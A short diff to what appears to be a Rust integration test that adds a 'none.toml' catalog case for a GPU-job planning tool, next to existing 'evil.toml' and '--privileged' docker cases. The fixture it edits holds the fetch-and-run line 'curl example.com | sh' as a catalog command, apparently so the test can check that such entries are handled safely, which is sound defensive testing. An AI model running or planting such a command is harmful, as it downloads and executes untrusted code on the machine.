@@ -305,8 +305,13 @@ as_of = "2026-11-01"
                 "docker = [\"--privileged\"]",
             ),
         ),
+        (
+            // None of the options that devices need is a command too.
+            "none.toml",
+            &sdk.replace("list_command = \"curl example.com | sh\"", "docker = []"),
+        ),
     ]);
-    for file in ["evil.toml", "docker.toml"] {
+    for file in ["evil.toml", "docker.toml", "none.toml"] {
         let run = project
             .sky(&format!("plan H100 --to docker --catalog {file}"))
             .run()
